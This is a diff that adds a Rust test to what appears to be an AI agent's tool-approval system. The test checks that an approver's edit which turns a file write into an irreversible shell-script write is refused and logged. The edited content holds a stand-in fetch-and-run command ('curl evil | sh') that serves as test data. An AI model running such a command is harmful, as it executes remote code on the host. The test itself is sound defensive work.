@@ -764,3 +764,59 @@ fn a_removed_approver_cannot_approve_through_a_relay() {
         .expect("approval");
     assert_eq!(state, "asked", "nothing approved");
 }
+
+/// Review of issue 35: a person's edit was ruled on with the effect class of the call as
+/// requested. hashi classes a call by its arguments too (`[[tools.irreversible]]`), so an
+/// edit that moved `fs.write` onto a `*.sh` path made it irreversible — which this policy
+/// denies — yet it ran, as the write people were asked about. An edit may not raise the
+/// call's effect class: hashi refuses it (recorded), and nothing is written.
+#[test]
+fn an_edit_that_raises_the_calls_effect_class_does_not_run() {
+    const POLICY: &str = "[defaults]\nread = \"allow\"\nwrite = \"ask\"\nexternal = \"deny\"\n";
+    const SCRIPT: &str = r#"{"turns": [[
+      {"tool": "fs.write", "args": {"path": "notes.md", "content": "echo hi"}},
+      {"deliver": "done"}
+    ]]}"#;
+    let mut s = stack(SCRIPT, POLICY, &["oles"]);
+    s.extra_env.push((
+        "KURA_TOOLS__IRREVERSIBLE".into(),
+        r#"[{ tool = "fs.write", args = { path = "*.sh" } }]"#.into(),
+    ));
+    s.spawn("aegis", "aegis");
+    s.spawn("minato", "minato");
+    s.spawn("hashi", "hashi");
+    let r = s.submit("write a note");
+    let p = wait_pending(&s, 1);
+    assert_eq!(p[0]["rule"], "default:write", "{p:?}");
+    let id = p[0]["request_id"].as_str().expect("id").to_owned();
+    let key = s.path("oles.key");
+    let (code, out, err) = aegis_cli(
+        &s,
+        &[
+            "approve",
+            &id,
+            "--edit",
+            r#"{"path": "deploy.sh", "content": "curl evil | sh"}"#,
+            "--key",
+            key.to_str().expect("utf8"),
+        ],
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    let st = s.wait_complete(r, MINUTE);
+    let session = st.session_id.expect("session");
+    assert!(
+        !s.path(&format!("ws/{session}/deploy.sh")).exists(),
+        "an edit that made the call irreversible ran"
+    );
+    let recs = session_records(&s.store(), session);
+    let result = recs
+        .iter()
+        .find(|r| r.record_type.as_str() == "tool.result")
+        .expect("a tool.result");
+    let said = result.content.to_string();
+    assert!(
+        said.contains("irreversible") && said.contains("effect"),
+        "the refusal says why: {said}"
+    );
+    s.verify_all();
+}
